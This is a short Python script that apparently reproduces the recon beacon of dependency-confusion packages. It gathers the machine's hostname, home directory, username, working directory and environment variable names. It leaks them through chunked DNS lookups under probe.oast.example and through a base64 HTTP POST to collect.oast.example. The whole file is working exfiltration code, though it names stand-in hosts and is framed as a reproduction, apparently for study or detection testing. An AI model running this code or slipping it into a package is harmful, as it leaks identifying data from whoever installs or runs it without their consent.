# Dependency-confusion recon, as caas-jupyter-tools and ssc-concurrent-log-handler do:
# the machine's identity, hex-encoded and split over DNS lookups below one
# domain, then (the second beacon) its user, cwd and the environment's names
# in a base64 JSON body of an HTTP POST. No planted secret is sent.
import base64, getpass, json, os, socket, urllib.request

host, user, cwd = socket.gethostname(), getpass.getuser(), os.getcwd()
h = (host + "|" + os.path.expanduser("~")).encode().hex()
for i in range(0, len(h), 20):
    try:
        socket.getaddrinfo("s7.c%d.%s.probe.oast.example" % (i // 20, h[i:i + 20]), 80)
    except Exception as e:
        print("lookup failed:", e)
body = base64.b64encode(json.dumps({"u": user, "c": cwd, "env": sorted(os.environ)}).encode())
try:
    urllib.request.urlopen(urllib.request.Request("http://collect.oast.example/b", data=b"d=" + body), timeout=3)
except Exception as e:
    print("post failed:", e)
